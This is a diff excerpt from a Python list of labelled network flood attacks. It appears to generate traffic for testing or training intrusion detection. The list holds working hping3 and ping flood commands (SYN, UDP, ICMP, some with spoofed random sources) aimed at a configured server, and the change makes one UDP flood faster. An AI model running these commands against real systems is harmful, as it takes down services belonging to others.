@@ -76,7 +76,7 @@ FLOODS = [
     attack("syn_flood_hping3", "syn_flood", 12, f"timeout 8 hping3 -q -S -p 80 -i u1000 {SERVER}"),
     attack("syn_flood_hping3_forged", "syn_flood", 12, f"timeout 8 hping3 -q -S -p 80 -i u1000 --rand-source {SERVER}", source="*"),
     attack("udp_flood_hping3", "udp_flood", 12, f"timeout 8 hping3 -q --udp -p 9999 -d 300 -i u400 {SERVER}"),
-    attack("udp_flood_hping3_forged", "udp_flood", 12, f"timeout 8 hping3 -q --udp -p 53 -d 120 -i u400 --rand-source {SERVER}", source="*"),
+    attack("udp_flood_hping3_forged", "udp_flood", 12, f"timeout 8 hping3 -q --udp -p 53 -d 120 -i u200 --rand-source {SERVER}", source="*"),
     attack("icmp_flood_hping3", "icmp_flood", 12, f"timeout 8 hping3 -q --icmp -d 120 -i u1000 {SERVER}"),
     attack("icmp_flood_ping", "icmp_flood", 12, f"timeout 8 ping -q -f {SERVER}"),
     attack("ddos_out_hping3", "ddos_out", 14, f"timeout 10 hping3 -q -S -p 80 -i u2500 {SERVER}",
